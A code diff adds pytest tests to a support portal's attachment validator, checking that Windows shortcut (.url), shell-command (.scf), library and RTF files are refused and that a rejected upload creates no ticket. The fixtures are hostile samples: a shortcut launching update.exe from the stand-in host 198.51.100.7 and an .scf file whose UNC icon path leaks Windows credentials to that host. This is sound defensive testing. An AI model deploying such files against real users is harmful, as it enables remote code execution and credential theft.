@@ -77,6 +77,51 @@ def test_a_file_breaking_a_rule_is_refused_by_name(name, content, error):
     assert error in caught.value.message_dict["attachments"][0]
 
 
+# Plain text a desktop opens by its name as something else: a shortcut that runs a program or
+# hands the reader's Windows credentials to another host, a document with embedded objects.
+SHORTCUT = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/update.exe\r\n"
+SHELL_COMMAND = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\icon.ico\r\n"
+LIBRARY = b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
+RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("invoice.url", SHORTCUT),
+        ("readme.scf", SHELL_COMMAND),
+        ("documents.library-ms", LIBRARY),
+        ("letter.rtf", RTF),
+        ("page.mht", TEXT),
+        ("notes.txt.website", TEXT),
+    ],
+)
+def test_text_named_as_a_shortcut_or_a_document_is_refused(name, content):
+    # given text any check of the bytes passes, under a name a desktop opens as something else
+    # when a customer (or staff) attaches it
+    with pytest.raises(ValidationError) as caught:
+        attachments_validate(uploads=[AttachmentUpload(name, content)])
+    # then it is refused, saying what is accepted
+    assert "is not a file we accept" in caught.value.message_dict["attachments"][0]
+
+
+@pytest.mark.parametrize("name", ["error.log", "export.csv", "dns.TXT", "README", "scan.v2.pdf"])
+def test_a_name_of_its_own_kind_or_none_is_accepted(name):
+    content = PDF if name.endswith(".pdf") else TEXT
+
+    [kept] = attachments_validate(uploads=[AttachmentUpload(name, content)])
+
+    assert kept.filename == name
+
+
+def test_a_shortcut_posted_on_the_portal_keeps_the_request_unsent(client):
+    response = general(client, [upload("invoice.url", SHORTCUT)])
+
+    assert response.status_code == 400
+    assert "is not a file we accept" in response.content.decode()
+    assert not Ticket.objects.exists() and not Attachment.objects.exists()
+
+
 def test_six_files_are_one_too_many():
     with pytest.raises(ValidationError, match="at most 5 files"):
         attachments_validate(uploads=[AttachmentUpload(f"{n}.png", PNG) for n in range(6)])
